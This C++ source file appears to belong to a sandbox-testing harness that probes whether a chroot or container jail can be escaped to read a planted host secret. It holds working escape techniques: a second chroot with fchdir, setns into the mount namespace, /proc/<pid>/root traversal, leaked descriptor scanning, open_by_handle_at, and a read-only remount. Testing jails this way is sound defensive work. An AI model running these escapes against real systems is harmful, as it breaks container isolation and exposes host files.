// Attempts on the tree: ways to a file outside of the jail's root.

#include <cctype>
#include <cstdlib>
#include <cstring>

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "probe.hpp"

namespace rootfs::escape::probe {

Outcome cwd_outside(const Parameters& /*parameters*/) {
  climb();
  return read_secret(AT_FDCWD);
}

Outcome second_chroot(const Parameters& /*parameters*/) {
  const int above = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (above == -1) return refused("open");
  // Now "/" is a folder below the working directory: ".." no longer meets it on the way.
  if (::chroot(any_folder()) == -1) return refused("chroot");
  if (::fchdir(above) == -1) return refused("fchdir");
  climb();
  return read_secret(AT_FDCWD);
}

Outcome setns_again(const Parameters& /*parameters*/) {
  const char* proc = find_proc();
  if (proc == nullptr) return refused(kMountProc);
  const int self = ::open(join(proc, "self/ns/mnt"), O_RDONLY | O_CLOEXEC);
  if (self == -1) return refused("open");
  if (::setns(self, CLONE_NEWNS) == -1) return refused("setns");
  return read_secret(AT_FDCWD, join("", kSecretFile));
}

namespace {

/// Field number `index` of a line, ended with NUL in place; nullptr if there is none.
char* field(char* line, int index) {
  char* rest = nullptr;
  char* word = ::strtok_r(line, " ", &rest);
  while (word != nullptr && index-- > 0) word = ::strtok_r(nullptr, " ", &rest);
  return word;
}

std::size_t read_whole(const char* path, char* buffer, std::size_t size) {
  const int fd = ::open(path, O_RDONLY | O_CLOEXEC);
  if (fd == -1) return 0;
  std::size_t used = 0;
  ssize_t count = 0;
  while (used < size - 1 && (count = ::read(fd, buffer + used, size - 1 - used)) > 0) {
    used += static_cast<std::size_t>(count);
  }
  ::close(fd);
  buffer[used] = '\0';
  return used;
}

}  // namespace

Outcome old_root(const Parameters& /*parameters*/) {
  // "/.." steps on what is mounted on top of "/", which "/" itself does not.
  Outcome found = read_secret(AT_FDCWD, join("/..", kSecretFile));
  if (found.error == 0) return found;
  const char* proc = find_proc();
  if (proc == nullptr) return refused(kMountProc);
  static std::array<char, 1 << 16> table;
  read_whole(join(proc, "self/mountinfo"), table.data(), table.size());
  char* rest = nullptr;
  for (char* line = ::strtok_r(table.data(), "\n", &rest); line != nullptr;
       line = ::strtok_r(nullptr, "\n", &rest)) {
    const char* target = field(line, 4);
    if (target == nullptr) continue;
    const Outcome here = read_secret(AT_FDCWD, join(target, kSecretFile));
    if (here.error == 0) return here;
  }
  return found;
}

Outcome proc_pid_root(const Parameters& /*parameters*/) {
  const char* proc = find_proc();
  if (proc == nullptr) return refused(kMountProc);
  DIR* processes = ::opendir(proc);
  if (processes == nullptr) return refused("opendir");
  errno = ENOENT;
  Outcome last = refused("open");
  while (const dirent* entry = ::readdir(processes)) {
    if (std::isdigit(static_cast<unsigned char>(entry->d_name[0])) == 0) continue;
    const int process = ::openat(::dirfd(processes), entry->d_name, O_PATH | O_CLOEXEC);
    for (const char* way : {"root/host-secret", "cwd/host-secret"}) {
      last = read_secret(process, way);
      if (last.error == 0) return last;
    }
    ::close(process);
  }
  return last;
}

Outcome leaked_fd(const Parameters& /*parameters*/) {
  constexpr int kHighest = 1024;
  errno = EBADF;
  Outcome last = refused("openat");
  for (int fd = STDERR_FILENO + 1; fd < kHighest; ++fd) {
    struct stat info {};
    if (::fstat(fd, &info) == -1 || !S_ISDIR(info.st_mode)) continue;
    last = read_secret(fd);
    if (last.error == 0) return last;
  }
  return last;
}

Outcome open_by_handle(const Parameters& parameters) {
  // A file_handle, and its bytes behind it.
  alignas(file_handle) std::array<unsigned char, sizeof(file_handle) + MAX_HANDLE_SZ>
      space{};
  auto* handle = reinterpret_cast<file_handle*>(space.data());
  handle->handle_type = static_cast<int>(parameters.number("type"));
  unsigned count = 0;
  for (const char* hex = parameters.text("handle");
       hex[0] != '\0' && hex[1] != '\0' && count < MAX_HANDLE_SZ; hex += 2) {
    const std::array<char, 3> byte = {hex[0], hex[1], '\0'};
    space[sizeof(file_handle) + count++] =
        static_cast<unsigned char>(std::strtoul(byte.data(), nullptr, 16));
  }
  handle->handle_bytes = count;
  // Any descriptor on the same filesystem will do: it names the filesystem, no more.
  // Without a jail, that is not "/" but the folder of the image.
  Outcome last;
  for (const char* folder : {"/", kJail}) {
    const int mount = ::open(folder, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount == -1) continue;
    const int fd = ::open_by_handle_at(mount, handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd != -1) return got(fd);
    last = refused("open_by_handle_at");
  }
  return last;
}

Outcome write_image(const Parameters& /*parameters*/) {
  // A file without a name: the proof leaves nothing in the image.
  const int fd = ::open("/", O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
  if (fd != -1) return got(fd);
  if (errno != EOPNOTSUPP) return refused("open");
  const char* name = "/.escape-probe";
  const int named = ::open(name, O_CREAT | O_EXCL | O_RDWR | O_CLOEXEC, 0600);
  if (named == -1) return refused("open");
  ::unlink(name);
  return got(named);
}

Outcome remount_rw(const Parameters& parameters) {
  mount_attr writable{};
  writable.attr_clr = MOUNT_ATTR_RDONLY;
  // Fails where "/" is no mount point, and so was never read-only by itself.
  ::mount_setattr(AT_FDCWD, "/", 0, &writable, sizeof writable);
  return write_image(parameters);
}

Outcome mount_arrives(const Parameters& parameters) {
  const char* folder = parameters.text("folder");
  const Outcome inside = read_secret(AT_FDCWD, join(folder, kSecretFile));
  if (inside.error == 0) return inside;
  // As it is called where there is no jail.
  if (::chdir(kJail) == -1) return inside;
  return read_secret(AT_FDCWD, join(folder + 1, kSecretFile));
}

}  // namespace rootfs::escape::probe
